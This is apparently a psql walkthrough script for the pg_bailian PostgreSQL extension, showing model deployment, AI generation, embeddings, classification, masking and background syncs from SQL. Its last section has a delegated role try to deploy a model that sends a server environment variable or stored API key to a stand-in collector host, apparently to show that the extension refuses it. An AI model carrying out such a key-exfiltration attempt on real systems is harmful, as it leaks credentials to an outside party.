-- pg_bailian walkthrough, run by scripts/demo.sh against the stand-in (psql variable
-- base_url). Against real Bailian, drop base_url and pass your key or 'env:NAME'.
\pset footer off
\set ON_ERROR_STOP 1

CREATE EXTENSION pg_bailian;

\echo '\n-- What can be deployed: the 54 models of seed 000, 2 rerank models, 10 OpenSearch services'
SELECT provider, task, count(*) AS models FROM ai_supported_models() GROUP BY 1, 2 ORDER BY 1, 2;
SELECT model_type, params, dimensions, default_dimension, max_inputs_per_request
  FROM ai_supported_models() WHERE task = 'embedding' AND model_type LIKE 'text-%';

\echo '\n-- A DBA deploys three models once (literal keys are stored sealed with the cluster master key)'
SELECT ai_deploy_model('chat', 'qwen-plus', 'env:PG_BAILIAN_DEMO_KEY',
       params   => '{"temperature": 0.3, "system": "You are a concise assistant."}',
       base_url => :'base_url');
SELECT ai_deploy_model('translator', 'qwen-mt-plus', 'sk-demo0123456789abcdef',
       params   => '{"extra_body": {"translation_options": {"source_lang": "auto",
                     "terms": [{"source": "数据库", "target": "database"}]}}}',
       base_url => :'base_url');
SELECT ai_deploy_model('embedder', 'text-embedding-v4', 'sk-demo0123456789abcdef',
       params   => '{"dimension": 256}', max_retries => 3, base_url => :'base_url');
SELECT model_name, model_type, task, key_hint, params, endpoint FROM ai_models ORDER BY model_name;
SELECT model_name, left(api_key, 24) || '...' AS stored_key FROM bailian.model_keys ORDER BY model_name;

\echo '\n-- Anyone then calls the models from SQL; the data never leaves the database tier'
CREATE TABLE reviews (id int PRIMARY KEY, body text);
INSERT INTO reviews VALUES
  (1, '这个数据库非常快，查询几乎是瞬间完成的'),
  (2, 'The checkout page crashed twice before my order went through.'),
  (3, 'Great battery life, the phone lasts two full days.'),
  (4, '物流太慢了，等了两个星期'),
  (5, 'The phone battery died after one day, very disappointing.'),
  (6, NULL);

SELECT id, ai_gen('chat', 'Classify the sentiment of: ' || body) AS answer FROM reviews ORDER BY id;
SELECT id, ai_translate('translator', body, 'English') AS english FROM reviews ORDER BY id;
SELECT ai_gen('Say hello to the DBA.') AS default_chat_model;

ALTER TABLE reviews ADD COLUMN embedding real[];
UPDATE reviews SET embedding = ai_embed('embedder', body);
SELECT id, cardinality(embedding) AS dims, embedding[1:3] AS head FROM reviews ORDER BY id;

\echo '\n-- Nearest neighbours by cosine similarity (unit vectors: the dot product)'
CREATE FUNCTION pg_temp.cosine(a real[], b real[]) RETURNS float8
  LANGUAGE sql IMMUTABLE AS $$ SELECT sum(x * y) FROM unnest(a, b) AS t(x, y) $$;
SELECT a.id, b.id AS nearest, round(pg_temp.cosine(a.embedding, b.embedding)::numeric, 3) AS cosine
  FROM reviews a
  CROSS JOIN LATERAL (SELECT id, embedding FROM reviews b
                       WHERE b.id <> a.id AND b.embedding IS NOT NULL
                       ORDER BY pg_temp.cosine(a.embedding, b.embedding) DESC LIMIT 1) b
 WHERE a.embedding IS NOT NULL ORDER BY a.id;

\echo '\n-- The AI function family: one prompt and one JSON Schema each; answers are checked before SQL sees them'
SELECT id, ai_classify('chat', body, ARRAY['battery', 'checkout', 'delivery', 'database']) AS topic,
       ai_sentiment('chat', body) AS sentiment
  FROM reviews ORDER BY id;
ALTER TABLE reviews ADD COLUMN contact text;
UPDATE reviews SET contact = format('name: %s; email: %s@example.com; phone: +86 138 0013 %s',
                                    (ARRAY['Li Wei', 'Ann Lee', 'Bo Chen', 'Mei Lin', 'Sam Ito'])[id],
                                    lower(split_part((ARRAY['Li Wei', 'Ann Lee', 'Bo Chen', 'Mei Lin', 'Sam Ito'])[id], ' ', 1)),
                                    8000 + id)
 WHERE body IS NOT NULL;
SELECT id, ai_extract('chat', contact, ARRAY['name', 'email', 'phone']) AS fields FROM reviews ORDER BY id;
SELECT id, ai_mask('chat', contact, ARRAY['email', 'phone']) AS masked FROM reviews ORDER BY id;
SELECT ai_gen_structured('chat', 'Give the city of this review as JSON',
         '{"type": "object", "properties": {"city": {"type": ["string", "null"]}}, "required": ["city"]}') AS structured;
SELECT round(ai_similarity('embedder', 'fast database', 'the database is fast')::numeric, 3) AS similarity,
       ai_chunk('First paragraph.' || chr(10) || chr(10) || 'Second one, a little longer. It has two sentences.', 30, 8) AS chunks,
       ai_prompt('Summarize {0} for {1}; answer {{"summary": ...}}', 'the report', 'the board') AS prompt;
SELECT function_name, left(prompt, 60) || '...' AS prompt, placeholders FROM ai_prompts ORDER BY function_name;

\echo '\n-- Many rows: a whole column in one CALL (commits as it goes; CALL again resumes)'
CREATE TABLE articles AS
  SELECT g AS id, 'article ' || g || ' about ' || (ARRAY['databases', 'cats', 'rust', 'cooking'])[1 + g % 4] AS body
    FROM generate_series(1, 2000) g;
ALTER TABLE articles ADD PRIMARY KEY (id), ADD COLUMN embedding real[];
CALL ai_embed_column('articles', 'body', 'embedding', 'embedder', batch_size => 500);
SELECT count(embedding) AS embedded, min(cardinality(embedding)) AS dims FROM articles;
\echo '\n-- Any expression over the row, only where a filter holds: CALL ai_update'
ALTER TABLE articles ADD COLUMN headline text;
CALL ai_update('articles', 'headline', $$upper(ai_gen('chat', 'A headline for: ' || body))$$,
               batch_size => 100, filter => $$body LIKE '%rust%'$$);
SELECT id, headline FROM articles WHERE headline IS NOT NULL ORDER BY id LIMIT 3;
SELECT ord, response, error FROM ai_gen_batch('chat', ARRAY['first prompt', NULL, 'third prompt']);

\echo '\n-- Any query is batched: AI filters after the cheap quals, aggregates, conditional calls'
EXPLAIN (COSTS OFF)
SELECT count(*) FROM articles
 WHERE id % 10 = 0 AND ai_classify('chat', body, ARRAY['databases', 'cats', 'rust', 'cooking']) = 'rust';
SELECT count(*) AS rust_in_every_tenth FROM articles
 WHERE id % 10 = 0 AND ai_classify('chat', body, ARRAY['databases', 'cats', 'rust', 'cooking']) = 'rust';
SELECT ai_classify('chat', body, ARRAY['databases', 'cats', 'rust', 'cooking']) AS topic, count(*) AS articles,
       round(avg(ai_similarity('embedder', body, 'programming languages'))::numeric, 3) AS avg_similarity
  FROM articles WHERE id <= 200 GROUP BY 1 ORDER BY 1;
-- Only the rows without a headline are sent to the model
SELECT id, COALESCE(headline, lower(ai_gen('chat', 'A headline for: ' || body))) AS headline
  FROM articles WHERE id BETWEEN 1 AND 6 ORDER BY id;

\echo '\n-- Keeping a column current: a sync, filled by a background worker as the rows change'
SELECT ai_sync_create('review_emb', 'reviews', 'embedding', $$ai_embed('embedder', body)$$) AS queued;
INSERT INTO reviews (id, body) VALUES (100, 'Arrived a day early and works perfectly.');
UPDATE reviews SET body = 'The checkout page works now.' WHERE id = 2;
-- In the changing transaction the old embedding is gone: NULL until the worker fills it
SELECT id, embedding IS NULL AS waiting FROM reviews WHERE id IN (2, 100) ORDER BY id;
DO $$BEGIN
    FOR i IN 1..100 LOOP
        EXIT WHEN NOT EXISTS (SELECT FROM reviews WHERE embedding IS NULL);
        PERFORM pg_sleep(0.1);
    END LOOP;
END$$;
SELECT id, cardinality(embedding) AS dims, embedding[1:3] AS head FROM reviews WHERE id IN (2, 100) ORDER BY id;
SELECT sync_name, state, pending_rows, rows_filled, failed_rows FROM ai_syncs;

\echo '\n-- Errors say what went wrong, with their own SQLSTATE, and never show a key'
\set ON_ERROR_STOP 0
\set VERBOSITY verbose
SELECT ai_embed('chat', 'wrong task');
SELECT ai_gen('chat', 'hot', '{"temperature": 5}');

\echo '\n-- Deploying can be delegated; the delegate cannot read the server environment or take over models'
DROP ROLE IF EXISTS demo_deployer;
CREATE ROLE demo_deployer;
-- (One ai_deploy_model, so its name alone names it; its argument list grows with releases.)
GRANT EXECUTE ON FUNCTION ai_deploy_model TO demo_deployer;
SET ROLE demo_deployer;
SELECT ai_deploy_model('leak', 'qwen-plus', 'env:HOME', base_url => 'https://collector.example.com/v1');
SELECT ai_deploy_model('leak', 'qwen-plus', 'env:PG_BAILIAN_DEMO_KEY', base_url => 'https://collector.example.com/v1');
SELECT ai_deploy_model('chat', 'qwen-max', 'env:PG_BAILIAN_DEMO_KEY', replace => true);
RESET ROLE;
\set VERBOSITY default
